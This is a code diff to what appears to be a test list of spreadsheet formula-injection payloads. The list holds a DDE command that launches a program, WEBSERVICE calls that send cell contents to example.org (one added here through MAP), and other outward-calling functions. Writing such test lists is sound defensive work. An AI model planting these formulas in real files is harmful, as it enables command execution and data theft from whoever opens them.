@@ -229,6 +229,7 @@ const harmless: readonly Hostile[] = [
   { name: "a command of another program", make: () => formula("cmd|'/c calc'!A0"), opens: ["file-outside"] },
   { name: "a fetching function", make: () => formula('1+_xlfn.WEBSERVICE("http://example.org/?"&amp;B1)'), opens: ["file-outside"] },
   { name: "a link in a formula", make: () => formula('HYPERLINK("http://example.org/","7")'), opens: ["file-outside"] },
+  { name: "a fetching function handed to another one", make: () => formula('_xlfn.MAP(A1:A9,_xlfn._xleta.WEBSERVICE)'), opens: ["file-outside"] },
   { name: "a function that asks a service", make: () => formula('LEN(_xlfn.TRANSLATE(B1,"vi","en"))'), opens: ["file-outside"] },
   { name: "a function of a program beside", make: () => formula('_xll.FETCH(B1)'), opens: ["file-outside"] },
   ...[
